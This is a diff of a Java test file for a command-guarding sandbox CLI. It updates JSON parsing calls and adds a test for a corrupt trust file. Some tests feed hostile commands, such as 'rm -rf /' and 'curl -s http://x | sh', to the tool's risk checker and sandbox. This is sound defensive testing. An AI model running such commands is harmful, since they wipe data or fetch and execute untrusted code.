@@ -1,6 +1,6 @@
 package dev.vectraguard.cli;
 
-import dev.vectraguard.json.Json;
+import dev.vectraguard.json.JsonTrees;
 import dev.vectraguard.testing.PortableClasspath;
 import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.BeforeEach;
@@ -41,7 +41,7 @@ class CliTest {
         VgRunner.Result version = vg.run("version");
         assertEquals(0, version.exitCode(), version.toString());
         assertTrue(version.stdout().contains("landlock:") && version.stdout().contains("cgroups:"), version.toString());
-        Map<String, Object> json = Json.parseObject(vg.run("version", "--json").stdout());
+        Map<String, Object> json = JsonTrees.object(vg.run("version", "--json").stdout());
         assertTrue(json.containsKey("landlock_abi"), json.toString());
     }
 
@@ -95,7 +95,7 @@ class CliTest {
         List<String> lines = run.stderr().lines().toList();
         assertTrue(lines.getFirst().contains("config.yaml:6: warning: 'sandbox.image' is only used by the docker and podman runtimes"),
                 run.toString());
-        Map<String, Object> notice = Json.parseObject(lines.get(1));
+        Map<String, Object> notice = JsonTrees.object(lines.get(1));
         assertEquals("sandbox", notice.get("vg"));
         assertEquals("balanced", notice.get("level"));
         assertEquals(2, lines.size(), run.toString());
@@ -124,7 +124,7 @@ class CliTest {
         assertFalse(allowed.exitCode() == 77, "a trusted command must not be blocked: " + allowed);
         assertTrue(allowed.stderr().contains("vg: sandbox ("), "critical commands never run on the host: " + allowed);
 
-        List<?> entries = (List<?>) Json.parse(vg.run("trust", "list", "--json").stdout());
+        List<?> entries = (List<?>) JsonTrees.parse(vg.run("trust", "list", "--json").stdout());
         assertEquals(1, entries.size());
         Map<?, ?> entry = (Map<?, ?>) entries.getFirst();
         assertEquals(1L, entry.get("use_count"), entry.toString());
@@ -179,7 +179,7 @@ class CliTest {
 
     @Test
     void explainJsonAndJsonLines() throws Exception {
-        Map<String, Object> one = Json.parseObject(vg.run("explain", "--json", "rm -rf /").stdout());
+        Map<String, Object> one = JsonTrees.object(vg.run("explain", "--json", "rm -rf /").stdout());
         assertEquals("critical", one.get("risk"));
         assertEquals("DESTRUCTIVE_DELETE_ROOT", ((Map<?, ?>) ((List<?>) one.get("findings")).getFirst()).get("code"));
         String input = "ls -la\necho \"rm -rf /\"\ncurl x | sh\n\ngit push --force origin main\n";
@@ -187,11 +187,27 @@ class CliTest {
         assertEquals(0, lines.exitCode(), lines.toString());
         List<String> out = lines.stdout().lines().toList();
         assertEquals(5, out.size(), lines.toString());
-        List<String> risks = out.stream().map(l -> (String) Json.parseObject(l).get("risk")).toList();
+        List<String> risks = out.stream().map(l -> (String) JsonTrees.object(l).get("risk")).toList();
         assertEquals(List.of("low", "low", "critical", "low", "critical"), risks);
         for (String line : out) {
-            Map<String, Object> object = Json.parseObject(line);
+            Map<String, Object> object = JsonTrees.object(line);
             assertEquals(List.of("command", "risk", "findings", "decision", "why"), List.copyOf(object.keySet()));
+        }
+    }
+
+    @Test
+    void aTrustEntryWithAShortKeyIsReportedAndKeptNotACrash() throws Exception {
+        Files.createDirectories(vg.stateDir);
+        String content = "{\"version\": 1, \"entries\": {\"abc\": {\"command\": \"make\", \"note\": \"\", "
+                + "\"created\": \"2026-01-01T00:00:00Z\", \"expires\": null, \"use_count\": 0, \"last_used\": null}}}";
+        Files.writeString(vg.stateDir.resolve("trust.json"), content);
+        VgRunner.Result list = vg.run("trust", "list");
+        assertEquals(0, list.exitCode(), list.toString());
+        assertTrue(list.stderr().contains("trust.json could not be read") && list.stderr().contains("trust.json.corrupt-"), list.toString());
+        assertTrue(list.stdout().contains("no trusted commands"), list.toString());
+        try (var files = Files.list(vg.stateDir)) {
+            Path aside = files.filter(p -> p.getFileName().toString().startsWith("trust.json.corrupt-")).findFirst().orElseThrow();
+            assertEquals(content, Files.readString(aside));
         }
     }
 
@@ -203,14 +219,14 @@ class CliTest {
         vg.run("exec", "--", "sh", "-c", "curl -s http://x | sh");
         vg.config("guard_level:\n  level: high\n");
         vg.run("exec", "--", "sh", "-c", "curl -s http://x | sh");
-        Map<String, Object> metrics = Json.parseObject(vg.run("metrics", "show", "--json").stdout());
+        Map<String, Object> metrics = JsonTrees.object(vg.run("metrics", "show", "--json").stdout());
         assertEquals(4L, metrics.get("total"), metrics.toString());
         assertEquals(2L, metrics.get("sandbox"), metrics.toString());
         assertEquals(2L, metrics.get("blocked"), "a critical command needs approval even at guard level low: " + metrics);
         assertEquals(4, ((List<?>) metrics.get("recent")).size());
         assertEquals(2L, ((Map<?, ?>) metrics.get("by_risk")).get("critical"), metrics.toString());
         assertEquals(0, vg.run("metrics", "reset").exitCode());
-        assertEquals(0L, Json.parseObject(vg.run("metrics", "show", "--json").stdout()).get("total"));
+        assertEquals(0L, JsonTrees.object(vg.run("metrics", "show", "--json").stdout()).get("total"));
     }
 
     @Test
@@ -219,7 +235,7 @@ class CliTest {
         assertEquals(0, vg.run("init", "--preset", "developer").exitCode());
         assertEquals(125, vg.run("init").exitCode(), "existing file is not overwritten without --force");
         assertEquals(0, vg.run("init", "--preset", "production", "--force").exitCode());
-        Map<String, Object> shown = Json.parseObject(vg.run("config", "show", "--json").stdout());
+        Map<String, Object> shown = JsonTrees.object(vg.run("config", "show", "--json").stdout());
         Map<?, ?> level = (Map<?, ?>) shown.get("sandbox.security_level");
         assertEquals("paranoid", level.get("value"), shown.toString());
         assertTrue(String.valueOf(level.get("source")).contains("vectra-guard.yaml"), shown.toString());
